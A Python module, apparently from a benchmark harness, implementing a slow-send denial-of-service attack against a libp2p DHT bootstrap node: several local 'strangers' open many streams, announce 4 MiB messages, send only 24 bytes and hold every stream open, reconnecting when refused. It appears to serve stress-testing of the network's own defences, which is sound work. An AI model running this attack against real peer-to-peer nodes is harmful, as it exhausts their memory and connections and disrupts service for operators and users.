"""Calls of the DHT that announce a message of 4 MiB, send the first few bytes of it, and nothing more."""

from __future__ import annotations

import asyncio

from bench.harness.stranger import dht
from bench.harness.stranger.connection import Connection
from bench.harness.stranger.multistream import NotAgreed
from bench.harness.stranger.peer import Stranger
from bench.harness.stranger.yamux import MuxedStream
from bench.harness.target import Target
from p2pnet.network.libp2p.protobuf import varint

ANNOUNCED_BYTES = 4 << 20
SENT_BYTES = 24
PAUSE_S = 0.5
"""Before a connection that was closed is made again."""


async def attack(target: Target, calls_each: int = 1600, strangers: int = 4) -> None:
    """At the bootstrap: so many calls over each of so many connections, all of them kept open."""
    async with asyncio.TaskGroup() as group:
        for number in range(strangers):
            group.create_task(_stay(target.bootstrap.tcp_address, f"127.0.9.{number + 1}", calls_each))


async def _stay(address: str, host: str, calls: int) -> None:
    while True:
        async with Stranger(host=host) as stranger:
            try:
                connection = await stranger.dial(address)
                held = [await _announce(connection) for _ in range(calls)]
                await connection.wait_closed()
                del held
            except (OSError, EOFError, TimeoutError, NotAgreed):
                pass  # refused: once more
        await asyncio.sleep(PAUSE_S)


async def _announce(connection: Connection) -> MuxedStream:
    stream = await connection.open(dht.protocol_of(dht.FIND))
    await stream.write(varint(ANNOUNCED_BYTES) + bytes(SENT_BYTES))
    return stream
